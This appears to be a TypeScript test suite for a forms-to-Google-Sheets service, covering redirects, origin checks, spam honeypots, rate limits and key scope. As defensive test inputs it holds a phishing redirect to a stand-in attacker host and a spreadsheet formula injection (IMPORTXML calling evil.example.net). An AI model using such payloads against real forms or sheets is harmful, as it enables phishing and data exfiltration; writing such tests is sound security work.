// The form key suite, in-process through the route handlers against emulators/google: a plain
// HTML form appends a row and the browser is sent on; a form key does nothing else; spam,
// unlisted redirects and origins write nothing and are counted; a double click is one row;
// concurrent submissions share Google calls. Run on the embedded stores and on the real ones.
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createUser } from "@/db/queries/users";
import type { User } from "@/db/schema";
import { setLimitStore, type LimitStore } from "@/lib/store/store";
import { registeredKey } from "@/testing/google";
import { callRoute } from "@/testing/routes";
import { startTestService, type TestService } from "@/testing/service";

const SA = "sheetapi-local@sheetapi-local.iam.gserviceaccount.com";
const SITE = "https://club.example.com";
const THANKS = "https://club.example.com/thanks";

export function formKeySuite(name: string, stores: { postgresUrl?: string; makeStore: () => LimitStore }) {
  describe(`form keys (${name})`, () => {
    let svc: TestService;
    let owner: User;
    let sheetId: string;
    let secret: string;
    let forms: typeof import("@/lib/keys/form-keys");

    beforeAll(async () => {
      svc = await startTestService({
        postgresUrl: stores.postgresUrl,
        env: { TRUSTED_PROXY_HOPS: "1", CHANGE_CHECK_INTERVAL_MS: "600000" },
      });
      setLimitStore(stores.makeStore());
      forms = await import("@/lib/keys/form-keys");
      owner = await createUser({ email: `forms-${randomUUID()}@example.com`, plan: "business" });
      sheetId = String(
        (
          await svc.admin("/spreadsheets", {
            title: "Club",
            members: { [SA]: "writer", [owner.email!]: "owner" },
            tabs: [
              {
                title: "Signups",
                rows: [
                  ["id", "name", "email", "age"],
                  [1, "Ada", "ada@example.com", 36],
                ],
              },
              {
                title: "Private",
                rows: [
                  ["id", "note"],
                  [1, "secret"],
                ],
              },
            ],
          })
        ).spreadsheetId,
      );
      secret = await registeredKey(owner, sheetId);
    });
    afterAll(async () => {
      setLimitStore(undefined);
      await svc.stop();
    });

    const formKey = async (form: Partial<Parameters<typeof forms.createFormKey>[0]["form"]> = {}) =>
      (
        await forms.createFormKey({
          userId: owner.id,
          sheetId,
          name: "signup",
          form: { tab: "Signups", origins: [SITE], redirects: [THANKS], ...form },
        })
      ).value;

    /** A plain form post as a browser on `origin` sends it (JavaScript off). */
    const post = async (
      key: string,
      fields: Record<string, string>,
      {
        origin = SITE as string | null,
        ip = "198.51.100.7",
        accept = "text/html,application/xhtml+xml,*/*;q=0.8",
        type = "application/x-www-form-urlencoded",
        body = undefined as string | undefined,
      } = {},
    ) => {
      const { POST } = await import("@/app/f/[formKey]/route");
      return callRoute(POST, {
        method: "POST",
        path: `/f/${key}`,
        params: { formKey: key },
        headers: {
          "content-type": type,
          accept,
          "X-Forwarded-For": `10.0.0.1, ${ip}`,
          ...(origin ? { Origin: origin, Referer: `${origin}/join` } : {}),
        },
        body: body ?? new URLSearchParams(fields).toString(),
      });
    };

    const rows = async (tab = "Signups") => {
      const { GET } = await import("@/app/api/v1/[sheetId]/[tabName]/route");
      const res = await callRoute(GET, {
        path: `/api/v1/${sheetId}/${tab}?fresh=true&limit=1000`,
        params: { sheetId, tabName: tab },
        headers: { "X-API-Key": secret, "Cache-Control": "no-cache" },
      });
      return res.body.data as Record<string, unknown>[];
    };

    const counts = async (key: string) =>
      (await forms.listFormKeys({ userId: owner.id, sheetId })).find((k) => key.startsWith(k.displayPrefix))!;

    describe("POST /f/{formKey}", () => {
      it("appends a urlencoded form's row and sends the browser to the key's thank-you address", async () => {
        const key = await formKey();
        const before = (await rows()).length;
        const res = await post(key, { name: "Grace", email: "grace@example.com", age: "41", _gotcha: "" });
        expect(res.status).toBe(303);
        expect(res.headers.get("location")).toBe(THANKS);
        const after = await rows();
        expect(after).toHaveLength(before + 1);
        // Read back as the API reads every cell (the seeded 36 too).
        expect(after.at(-1)).toMatchObject({ name: "Grace", email: "grace@example.com", age: "41" });
        expect(await counts(key)).toMatchObject({ accepted: 1, refused: 0 });
      });

      it("takes multipart and JSON too, and answers a script with the envelope", async () => {
        const key = await formKey({ visitorLimit: 100 });
        const form = new FormData();
        form.set("name", "Multi");
        const multipart = new Request("http://x", { method: "POST", body: form });
        const res = await post(
          key,
          {},
          { type: multipart.headers.get("content-type")!, body: await multipart.text(), accept: "application/json" },
        );
        expect(res.status).toBe(201);
        expect(res.body).toMatchObject({ success: true, data: { submitted: true } });
        const json = await post(
          key,
          {},
          { type: "application/json", body: JSON.stringify({ name: "Json", age: 5 }), accept: "*/*" },
        );
        expect(json.status).toBe(201);
        expect((await rows()).slice(-2).map((r) => r.name)).toEqual(["Multi", "Json"]);
      });

      it("refuses a file field with a readable message and writes nothing", async () => {
        const key = await formKey();
        const form = new FormData();
        form.set("name", "Filer");
        form.set("email", new File(["x"], "cv.pdf"));
        const multipart = new Request("http://x", { method: "POST", body: form });
        const before = (await rows()).length;
        const res = await post(
          key,
          {},
          { type: multipart.headers.get("content-type")!, body: await multipart.text(), accept: "application/json" },
        );
        expect(res.status).toBe(400);
        expect(String(res.body.message)).toMatch(/file/);
        expect(await rows()).toHaveLength(before);
      });

      it("sends the browser to the hosted thank-you page when the key names no address", async () => {
        const key = await formKey({ redirects: [], message: "See you at the club <3" });
        const res = await post(key, { name: "Hosted" });
        expect(res.status).toBe(303);
        const location = new URL(res.headers.get("location")!, "http://localhost");
        expect(location.pathname).toBe(`/f/${key}`);
        const { GET } = await import("@/app/f/[formKey]/route");
        const page = await callRoute(GET, { path: location.pathname + location.search, params: { formKey: key } });
        expect(page.status).toBe(200);
        expect(page.text).toContain("See you at the club &#60;3");
        expect(page.text).toContain(`href="${SITE}/join"`);
      });

      it("follows _redirect only to a listed address and refuses any other, writing nothing", async () => {
        const key = await formKey({ redirects: [THANKS, `${SITE}/welcome`] });
        const listed = await post(key, { name: "Listed", _redirect: `${SITE}/welcome` });
        expect(listed.headers.get("location")).toBe(`${SITE}/welcome`);
        const before = (await rows()).length;
        const res = await post(key, { name: "Evil", _redirect: "https://evil.example.net/phish" });
        expect(res.status).toBe(400);
        expect(res.headers.get("location")).toBeNull();
        expect(res.headers.get("content-type")).toMatch(/text\/html/);
        expect(res.text).toContain("Nothing was saved");
        expect(res.text).toContain(`href="${SITE}/join"`);
        expect((await rows()).map((r) => r.name)).not.toContain("Evil");
        expect(await rows()).toHaveLength(before);
      });

      it("answers a filled honeypot as accepted but writes nothing and counts it refused", async () => {
        const key = await formKey();
        const before = (await rows()).length;
        const res = await post(key, { name: "Bot", _gotcha: "http://spam.example" });
        expect(res.status).toBe(303);
        expect(res.headers.get("location")).toBe(THANKS);
        expect(await rows()).toHaveLength(before);
        expect(await counts(key)).toMatchObject({ accepted: 0, refused: 1 });
      });

      it("refuses an unlisted origin, and a post that names none", async () => {
        const key = await formKey();
        const before = (await rows()).length;
        const foreign = await post(key, { name: "Foreign" }, { origin: "https://other.example.org" });
        expect(foreign.status).toBe(403);
        expect(foreign.text).toMatch(/other\.example\.org/);
        expect((await post(key, { name: "Nowhere" }, { origin: null, accept: "application/json" })).status).toBe(403);
        expect(await rows()).toHaveLength(before);
        expect(await counts(key)).toMatchObject({ accepted: 0, refused: 2 });
      });

      it("drops fields the key does not accept, or refuses them when the key says so, never writing another column", async () => {
        const dropping = await formKey({ fields: ["name"] });
        await post(dropping, { name: "Dropper", email: "x@example.com", id: "999" });
        const last = (await rows()).at(-1)!;
        expect(last).toMatchObject({ name: "Dropper", email: "" });
        expect(last.id).not.toBe("999");
        const refusing = await formKey({ fields: ["name"], unknownFields: "refuse" });
        const res = await post(refusing, { name: "Refused", email: "x@example.com" }, { accept: "application/json" });
        expect(res.status).toBe(400);
        expect(String(res.body.message)).toMatch(/"email"/);
        expect((await rows()).map((r) => r.name)).not.toContain("Refused");
      });

      it("writes one row for a double click", async () => {
        const key = await formKey();
        const before = (await rows()).length;
        const [a, b] = await Promise.all([post(key, { name: "Twice" }), post(key, { name: "Twice" })]);
        expect([a.status, b.status]).toEqual([303, 303]);
        expect(await post(key, { name: "Twice" }).then((r) => r.status)).toBe(303);
        expect((await rows()).filter((r) => r.name === "Twice")).toHaveLength(1);
        expect(await rows()).toHaveLength(before + 1);
      });

      it("applies the key's per-visitor limit, with a readable page", async () => {
        const key = await formKey({ visitorLimit: 2 });
        for (const n of [1, 2])
          expect((await post(key, { name: `Limited ${n}` }, { ip: "203.0.113.50" })).status).toBe(303);
        const res = await post(key, { name: "Limited 3" }, { ip: "203.0.113.50" });
        expect(res.status).toBe(429);
        expect(res.text).toContain("Too many submissions");
        expect((await post(key, { name: "Other visitor" }, { ip: "203.0.113.51" })).status).toBe(303);
        expect((await rows()).map((r) => r.name)).not.toContain("Limited 3");
      });

      it("writes 100 concurrent submissions as 100 rows in a few Google calls", async () => {
        const key = await formKey({ visitorLimit: 1000 });
        const before = (await rows()).length;
        svc.google.calls.clear();
        const answers = await Promise.all(Array.from({ length: 100 }, (_, i) => post(key, { name: `Crowd ${i}` })));
        expect(answers.map((r) => r.status)).toEqual(Array(100).fill(303));
        const writes = [...svc.google.calls]
          .filter(([route]) => route === "spreadsheets.batchUpdate")
          .reduce((n, [, c]) => n + c, 0);
        const all = [...svc.google.calls].reduce((n, [, c]) => n + c, 0);
        expect(writes).toBeGreaterThan(0);
        expect(writes).toBeLessThanOrEqual(4);
        expect(all).toBeLessThanOrEqual(8);
        const names = (await rows()).map((r) => r.name);
        expect(names).toHaveLength(before + 100);
        for (let i = 0; i < 100; i++) expect(names).toContain(`Crowd ${i}`);
      });

      it("refuses an unknown or revoked form key, and a secret key in its place", async () => {
        const key = await formKey();
        const { revokeKey } = await import("@/lib/keys/manage");
        await revokeKey({ userId: owner.id, keyId: (await counts(key)).id });
        for (const k of [key, secret, "shf_0000000000000000000000000000000000000A"])
          expect((await post(k, { name: "No" }, { accept: "application/json" })).status).toBe(401);
      });

      it("never writes a formula, also on a sheet that enters strings as typed", async () => {
        const { setSheetSettings } = await import("@/db/queries/sheets");
        const { publishSheet } = await import("@/lib/sheets/sheet-record");
        await publishSheet(
          await setSheetSettings({ id: sheetId, userId: owner.id, settings: { userEnteredWrites: true } }),
        );
        try {
          const key = await formKey();
          const res = await post(
            key,
            { name: '=IMPORTXML("https://evil.example.net","//a")' },
            { accept: "application/json" },
          );
          expect(res.status).toBe(400);
          expect((await rows()).map((r) => String(r.name))).not.toContain(
            '=IMPORTXML("https://evil.example.net","//a")',
          );
        } finally {
          await publishSheet(
            await setSheetSettings({ id: sheetId, userId: owner.id, settings: { userEnteredWrites: false } }),
          );
        }
      });

      it("answers 405 to other methods", async () => {
        const { PUT } = await import("@/app/f/[formKey]/route");
        const res = await callRoute(PUT, { method: "PUT", path: "/f/shf_x", params: { formKey: "shf_x" } });
        expect(res.status).toBe(405);
        expect(res.headers.get("allow")).toBe("GET, POST");
      });
    });

    describe("a form key elsewhere", () => {
      it("is refused on every other route of its own tab and on another tab", async () => {
        const key = await formKey();
        const mod = await import("@/app/api/v1/[sheetId]/[tabName]/route");
        const one = await import("@/app/api/v1/[sheetId]/[tabName]/[rowId]/route");
        const schema = await import("@/app/api/[sheetId]/schema/route");
        const headers = { "X-API-Key": key, Origin: SITE };
        const calls = [
          callRoute(mod.GET, { path: `/api/v1/${sheetId}/Signups`, params: { sheetId, tabName: "Signups" }, headers }),
          callRoute(mod.POST, {
            method: "POST",
            path: `/api/v1/${sheetId}/Signups`,
            params: { sheetId, tabName: "Signups" },
            headers,
            body: { name: "Direct" },
          }),
          callRoute(mod.POST, {
            method: "POST",
            path: `/api/v1/${sheetId}/Private`,
            params: { sheetId, tabName: "Private" },
            headers,
            body: { note: "x" },
          }),
          callRoute(one.PATCH ?? one.PUT, {
            method: "PATCH",
            path: `/api/v1/${sheetId}/Signups/1`,
            params: { sheetId, tabName: "Signups", rowId: "1" },
            headers,
            body: { name: "x" },
          }),
          callRoute(one.DELETE, {
            method: "DELETE",
            path: `/api/v1/${sheetId}/Signups/1`,
            params: { sheetId, tabName: "Signups", rowId: "1" },
            headers,
          }),
          callRoute(schema.GET, { path: `/api/${sheetId}/schema`, params: { sheetId }, headers }),
        ];
        for (const res of await Promise.all(calls)) {
          expect(res.status).toBe(403);
          expect(String(res.body.message)).toMatch(/form key/);
        }
        expect((await rows()).map((r) => r.name)).not.toContain("Direct");
        expect(await rows("Private")).toHaveLength(1);
      });
    });
  });
}
